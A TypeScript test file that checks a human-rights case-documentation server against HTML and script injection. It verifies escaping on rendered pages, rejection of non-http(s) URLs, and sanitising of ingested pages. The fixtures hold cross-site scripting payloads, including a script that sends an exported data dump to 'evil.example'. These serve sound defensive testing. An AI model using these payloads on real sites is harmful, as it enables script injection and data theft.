/**
 * HTML and script injection: markup in names, titles, quotes and documents is shown as text on every page
 * the server renders; URL fields take only http(s); JSON answers are JSON and never sniffed as HTML.
 */
import { parseHTML } from 'linkedom';
import { afterAll, expect, it } from 'vitest';
import { createAct } from '../acts/act.service.js';
import type { DalilServer } from '../http/server.js';
import { describeEachDatabase } from '../test/databases.js';
import { attackServer, BAD_URLS, type ErrorJson, HTML_PAYLOADS, octets } from './attack-kit.js';

const MARKUP = Object.values(HTML_PAYLOADS);

/** No payload appears raw, and the page as a browser would read it has no script, handler or script URL. */
function expectEscaped(html: string, where: string) {
  for (const payload of MARKUP) expect(html, where).not.toContain(payload);
  const { document } = parseHTML(`<!doctype html><html><body>${html}</body></html>`) as unknown as {
    document: Document;
  };
  expect(document.querySelectorAll('script, img, svg, iframe, object, embed').length, where).toBe(0);
  for (const element of Array.from(document.querySelectorAll('*'))) {
    for (const attribute of Array.from(element.attributes)) {
      expect(attribute.name, where).not.toMatch(/^on/i);
      expect(attribute.value, where).not.toMatch(/^\s*(javascript|data|vbscript):/i);
    }
  }
}

describeEachDatabase('attack: HTML and script injection', (use) => {
  let app: DalilServer;
  let caseId = '';
  const json = <T>(response: { json: <U>() => U }) => response.json<T>();

  afterAll(async () => {
    await app.close();
  });

  it('shows markup in names, titles and quotes as text on the home page and in letters', async () => {
    app = await attackServer(use().db);
    const [script, img, attribute] = MARKUP as [string, string, string];
    caseId = json<{ id: string }>(
      await app.inject({
        method: 'POST',
        url: '/api/cases',
        payload: {
          slug: 'html-attack',
          title: `Case ${script}`,
          description: img,
          confidentiality: 'public',
        },
      }),
    ).id;
    const incident = json<{ id: string }>(
      await app.inject({
        method: 'POST',
        url: '/api/incidents',
        payload: {
          caseId,
          title: `Beating ${img} ${attribute}`,
          description: script,
          placeDetail: attribute,
          place: 'Bishkek',
          dateStart: '2020-10-05',
          eventType: 'attack',
        },
      }),
    ).id;
    const victim = json<{ id: string; name: string }>(
      await app.inject({
        method: 'POST',
        url: '/api/actors',
        payload: {
          kind: 'person',
          name: `Reporter ${script}`,
          aliases: [img],
          namePublic: true,
          namePublicReason: 'x',
        },
      }),
    );
    expect(victim.name).toBe(`Reporter ${script}`); // stored verbatim: escaping is the renderer's job
    const act = await createAct(
      { db: use().db, actor: 'tester' },
      {
        incidentId: incident,
        actType: 'beating',
        perpetratorLabel: `Officer ${img}`,
        victimId: victim.id,
        victimLabel: `Reporter ${script}`,
      },
    );
    const allegation = json<{ id: string }>(
      await app.inject({
        method: 'POST',
        url: '/api/allegations',
        payload: {
          caseId,
          title: `Allegation ${script}`,
          actIds: [act.id],
          perpetratorLabel: attribute,
          authority: { name: `Prosecutor ${img}`, kind: 'prosecutor' },
        },
      }),
    ).id;

    // Publications show public incidents only: this one is made public, markup and all.
    const published = await app.inject({
      method: 'PATCH',
      url: `/api/incidents/${incident}`,
      payload: { version: 1, confidentiality: 'public' },
    });
    expect(published.statusCode, published.body).toBe(200);
    for (const query of ['', `?unmask=true&recipient=${encodeURIComponent(`Editor ${script}`)}`]) {
      const report = await app.inject({
        method: 'GET',
        url: `/api/cases/html-attack/publications/report${query}`,
      });
      expect(report.statusCode, report.body.slice(0, 300)).toBe(200);
      expect(report.headers['content-type']).toMatch(/^text\/html/);
      expect(report.headers['content-security-policy']).toContain("default-src 'none'");
      expect(report.body).toContain('Beating &lt;img src=x onerror=alert(1)&gt;');
      expectEscaped(report.body, `publication report ${query}`);
      for (const format of ['csv', 'json', 'geojson', 'acled']) {
        const file = await app.inject({
          method: 'GET',
          url: `/api/cases/html-attack/publications/${format}${query}`,
        });
        expect(file.statusCode, format).toBe(200);
        expect(file.headers['content-type'], format).not.toMatch(/html/);
        expect(file.headers['x-content-type-options'], format).toBe('nosniff');
      }
    }

    const home = await app.inject({ method: 'GET', url: '/' });
    expect(home.statusCode).toBe(200);
    expect(home.headers['content-type']).toMatch(/^text\/html/);
    expect(home.headers['content-security-policy']).toContain("default-src 'none'");
    expect(home.body).toContain('Case &lt;script&gt;alert(1)&lt;/script&gt;');
    expect(home.body).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expectEscaped(home.body, 'home page');

    for (const cleared of [false, true]) {
      const letter = await app.inject({
        method: 'POST',
        url: `/api/allegations/${allegation}/letter`,
        payload: {
          format: 'html',
          recipient: { name: `Dear ${script}`, cleared },
          organisation: { name: `NGO ${img}`, contact: attribute },
        },
      });
      expect(letter.statusCode, letter.body).toBe(200);
      const { text } = letter.json<{ text: string }>();
      expect(text).toMatch(/<h1>/);
      expect(text).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
      expectEscaped(text, `letter, cleared recipient: ${cleared}`);
    }
  });

  it('refuses every URL that is not http(s), wherever a URL is taken', async () => {
    const source = json<{ id: string; version: number }>(
      await app.inject({ method: 'POST', url: '/api/sources', payload: { name: 'Plain source' } }),
    );
    for (const url of BAD_URLS) {
      const attempts = [
        await app.inject({ method: 'POST', url: '/api/sources', payload: { name: `S ${url}`, url } }),
        await app.inject({
          method: 'PATCH',
          url: `/api/sources/${source.id}`,
          payload: { version: source.version, url },
        }),
        await app.inject({
          method: 'POST',
          url: `/api/cases/${caseId}/documents?fileName=a.txt&url=${encodeURIComponent(url)}`,
          ...octets('Police beat a reporter in Bishkek on 5 October 2020.'),
        }),
        await app.inject({
          method: 'POST',
          url: `/api/cases/${caseId}/evidence?fileName=a.jpg&collector=me&sourceUrl=${encodeURIComponent(url)}`,
          ...octets(Uint8Array.from([0xff, 0xd8, 0xff, 1])),
        }),
      ];
      for (const [i, response] of attempts.entries()) {
        expect(response.statusCode, `${i} ${url}: ${response.body}`).toBe(400);
        const error = json<ErrorJson>(response).error;
        expect(error.code).toBe('validation_failed');
        expect(error.field).toMatch(/url$/i);
      }
    }
    // A lossless import is no back door: its URLs are checked the same way.
    const exported = json<{ tables: { sources: { url: string | null }[] } }>(
      await app.inject({ method: 'GET', url: '/api/export' }),
    );
    const first = exported.tables.sources[0]!;
    first.url = 'javascript:alert(1)';
    const imported = await app.inject({ method: 'POST', url: '/api/import', payload: exported });
    expect(imported.statusCode, imported.body).toBe(400);
    expect(json<ErrorJson>(imported).error.field).toMatch(/^sources\[0\]\.url$/);
    const sources = json<{ url: string | null }[]>(await app.inject({ method: 'GET', url: '/api/sources' }));
    expect(sources.some((s) => s.url?.startsWith('javascript:'))).toBe(false);
  });

  it('keeps scripts and handlers of an ingested page out of its text, and escapes a text file with markup', async () => {
    const page = `<!doctype html><html><head><title>Report <script>alert('title')</script></title>
      <script>fetch('/api/export').then(r => r.text()).then(t => navigator.sendBeacon('https://evil.example', t))</script>
      <style>body{background:url(javascript:alert(1))}</style></head>
      <body onload="alert('body')"><article><h1>Journalists attacked in Bishkek</h1>
      <p onclick="alert('p')">On 5 October 2020 police officers beat the reporter Aibek Tashiev near the White House in Bishkek.
      <img src=x onerror="alert('img')"> <a href="javascript:alert('link')">more</a></p>
      <iframe src="javascript:alert('frame')"></iframe><object data="evil.swf"></object>
      <p>Two journalists were injured and their cameras were confiscated by the police.</p></article></body></html>`;
    const ingested = await app.inject({
      method: 'POST',
      url: `/api/cases/${caseId}/documents?fileName=${encodeURIComponent('page <script>.html')}`,
      ...octets(page),
    });
    expect(ingested.statusCode, ingested.body).toBe(201);
    const documentId = json<{ document: { id: string } }>(ingested).document.id;
    const stored = json<{ text: string; fileName: string }>(
      await app.inject({ method: 'GET', url: `/api/documents/${documentId}` }),
    );
    expect(stored.text).toContain('police officers beat the reporter');
    expect(stored.text).not.toMatch(/alert|sendBeacon|onerror|onload|onclick|javascript:|<script|<iframe/i);

    const textFile = `<script>alert(1)</script> <img src=x onerror=alert(1)>\nOn 6 October 2020 police in Osh beat the journalist Bakyt Asanov <b onmouseover=alert(1)>hard</b>.\n`;
    const asText = await app.inject({
      method: 'POST',
      url: `/api/cases/${caseId}/documents?fileName=notes.txt`,
      ...octets(textFile),
    });
    expect(asText.statusCode, asText.body).toBe(201);
    const textDoc = json<{ text: string }>(
      await app.inject({
        method: 'GET',
        url: `/api/documents/${json<{ document: { id: string } }>(asText).document.id}`,
      }),
    );
    expect(textDoc.text).toContain('<script>alert(1)</script>'); // a text file's text is kept as it is
    const accepted = await app.inject({ method: 'POST', url: `/api/cases/${caseId}/proposals/accept-all` });
    expect(accepted.statusCode, accepted.body).toBe(200);
    const home = await app.inject({ method: 'GET', url: '/' });
    expectEscaped(home.body, 'home page after ingest');
    for (const url of ['/api/incidents', `/api/documents/${documentId}`, '/api/proposals', '/api/export']) {
      const response = await app.inject({ method: 'GET', url });
      expect(response.headers['content-type'], url).toMatch(/^application\/json/);
      expect(response.headers['x-content-type-options'], url).toBe('nosniff');
    }
  });
});
